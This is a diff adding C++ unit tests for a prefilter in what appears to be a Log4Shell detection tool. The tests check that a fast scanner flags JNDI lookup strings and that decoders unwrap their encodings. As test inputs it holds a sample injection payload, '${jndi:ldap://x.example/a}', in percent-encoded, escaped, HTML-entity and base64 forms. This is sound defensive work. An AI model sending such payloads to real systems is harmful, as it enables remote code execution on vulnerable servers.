@@ -1,0 +1,147 @@
+#include "hunt/prefilter.h"
+
+#include <gtest/gtest.h>
+
+#include <cctype>
+#include <random>
+#include <string>
+
+#include "hunt/decoders.h"
+
+namespace l4s::hunt {
+namespace {
+
+TEST(PrefilterTest, Triggers) {
+  for (const char* s : {"${jndi:", "$%7Bjndi", "$%257bjndi", "%24%7B", "%2524%257B", "%252524", "%u0024%u007B",
+                        "%U0024", "\\u0024\\u007b", "\\\\u0024", "\\x24", "\\044\\173", "\\\\44{", "&#36;&#123;",
+                        "&#036;", "&#x24;", "&#X0024;", "&dollar;", "&DOLLAR;", "JHtqbmRpOmxkYXA6",
+                        "Basic dXNlcjoke2puZGk6", "xSR7anything"}) {
+    EXPECT_TRUE(HasTrigger(s)) << s;
+    std::string padded = std::string(37, 'x') + s + std::string(20, 'y');  // exercise the SIMD path
+    EXPECT_EQ(FindTrigger(padded), 37u + FindTrigger(s)) << s;
+  }
+}
+
+TEST(PrefilterTest, CleanText) {
+  for (const char* s : {"GET /index.html HTTP/1.1 200 512 \"Mozilla/5.0 (X11; Linux x86_64)\"",
+                        "100% done; price $5 & tax", "C:\\Users\\x", "JSON JHX R7 aR7", "&amp; &#35; %23 %2 $",
+                        "2021-12-10T10:00:00Z INFO [main] Started"}) {
+    EXPECT_FALSE(HasTrigger(s)) << s;
+  }
+}
+
+TEST(PrefilterTest, FindsEveryOccurrenceInOrder) {
+  std::string s = std::string(100, 'a') + "${x}" + std::string(50, 'b') + "%24" + std::string(3, 'c') + "&#36;";
+  size_t p = FindTrigger(s);
+  EXPECT_EQ(p, 100u);
+  p = FindTrigger(s, p + 1);
+  EXPECT_EQ(p, 154u);
+  p = FindTrigger(s, p + 1);
+  EXPECT_EQ(p, 160u);
+  EXPECT_EQ(FindTrigger(s, p + 1), std::string_view::npos);
+}
+
+// Every transport encoding the decoders peel keeps a trigger on the line.
+TEST(PrefilterTest, EncodedPayloadsKeepATrigger) {
+  std::string payload = "${jndi:ldap://x.example/a}";
+  auto each = [&](const char* fmt) {
+    std::string out;
+    for (unsigned char c : payload) {
+      char buf[16];
+      std::snprintf(buf, sizeof buf, fmt, c);
+      out += buf;
+    }
+    return out;
+  };
+  for (const std::string& s : {each("%%%02X"), each("%%25%02X"), each("%%u%04X"), each("\\u%04x"), each("\\x%02x"),
+                               each("\\%03o"), each("&#%d;"), each("&#x%x;")}) {
+    EXPECT_TRUE(HasTrigger(s)) << s;
+    ASSERT_FALSE(PeelLayers(s).empty()) << s;
+    EXPECT_EQ(PeelLayers(s).back().text, payload) << s;
+  }
+  // base64 at the first two alignments of "${".
+  EXPECT_TRUE(HasTrigger("JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0="));   // "${jndi:ldap://x.example/a}"
+  EXPECT_TRUE(HasTrigger("YSR7am5kaTpsZGFwOi8veC5leGFtcGxlL2F9"));   // "a${jndi:ldap://x.example/a}"
+  EXPECT_TRUE(HasTrigger("dXNlcjoke2puZGk6bGRhcDovL3guZXhhbXBsZS9hfQ=="));  // "user:${jndi:ldap://x.example/a}"
+  EXPECT_FALSE(HasTrigger("the smoke woke me"));
+  EXPECT_FALSE(HasTrigger("/search?q=kernel+smoke+test&page=3"));
+}
+
+// The SIMD scan agrees with a byte-by-byte reading of the rules on random
+// text dense in trigger bytes, at every alignment.
+TEST(PrefilterTest, MatchesScalarReference) {
+  auto lower = [](char c) { return static_cast<char>(std::tolower(static_cast<unsigned char>(c))); };
+  auto at = [&](const std::string& s, size_t p, std::string_view lit) {
+    if (p + lit.size() > s.size()) return false;
+    for (size_t i = 0; i < lit.size(); ++i) {
+      if (lower(s[p + i]) != lit[i]) return false;
+    }
+    return true;
+  };
+  auto reference = [&](const std::string& s) -> size_t {
+    for (size_t p = 0; p < s.size(); ++p) {
+      size_t q;
+      switch (s[p]) {
+        case '$':
+          if (at(s, p + 1, "{")) return p;
+          if (at(s, p + 1, "%")) {
+            for (q = p + 2; at(s, q, "25"); q += 2) {}
+            if (at(s, q, "7b")) return p;
+          }
+          break;
+        case '%':
+          for (q = p + 1; at(s, q, "25"); q += 2) {}
+          if (at(s, q, "24") || at(s, q, "u0024")) return p;
+          break;
+        case '\\':
+          for (q = p + 1; at(s, q, "\\"); ++q) {}
+          if (at(s, q, "u0024") || at(s, q, "x24") || at(s, q, "044") || at(s, q, "44")) return p;
+          break;
+        case '&':
+          if (at(s, p + 1, "#x")) {
+            for (q = p + 3; at(s, q, "0"); ++q) {}
+            if (at(s, q, "24")) return p;
+          } else if (at(s, p + 1, "#")) {
+            for (q = p + 2; at(s, q, "0"); ++q) {}
+            if (at(s, q, "36")) return p;
+          } else if (at(s, p + 1, "dollar;")) {
+            return p;
+          }
+          break;
+        case 'J':
+          if (p + 2 < s.size() && s[p + 1] == 'H' && s[p + 2] >= 's' && s[p + 2] <= 'v') return p;
+          break;
+        case 'k':
+          if (p > 0 && p + 1 < s.size() && s[p + 1] == 'e' &&
+              std::string_view("048AEIMQUYcgkosw").find(s[p - 1]) != std::string_view::npos) {
+            size_t b = p, e = p;
+            auto b64 = [](char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '+' || c == '/' || c == '-' || c == '_'; };
+            while (b > 0 && b64(s[b - 1])) --b;
+            while (e < s.size() && b64(s[e])) ++e;
+            bool up = false, lo = false, dig = false;
+            for (size_t i = b; i < e; ++i) {
+              up |= std::isupper(static_cast<unsigned char>(s[i])) != 0;
+              lo |= std::islower(static_cast<unsigned char>(s[i])) != 0;
+              dig |= std::isdigit(static_cast<unsigned char>(s[i])) != 0;
+            }
+            if (e - b >= 12 && up && lo && dig) return p;
+          }
+          break;
+        case 'R':
+          if (p > 0 && p + 1 < s.size() && s[p + 1] == '7' && std::string_view("CSiy").find(s[p - 1]) != std::string_view::npos) return p;
+          break;
+      }
+    }
+    return std::string_view::npos;
+  };
+  std::mt19937 rng(42);
+  const std::string alphabet = "$%{\\&#xXuU0247357bBdJHtRSi;a kewoK9";
+  for (int iter = 0; iter < 20000; ++iter) {
+    std::string s(rng() % 64, ' ');
+    for (char& c : s) c = alphabet[rng() % alphabet.size()];
+    ASSERT_EQ(FindTrigger(s), reference(s)) << s;
+  }
+}
+
+}  // namespace
+}  // namespace l4s::hunt
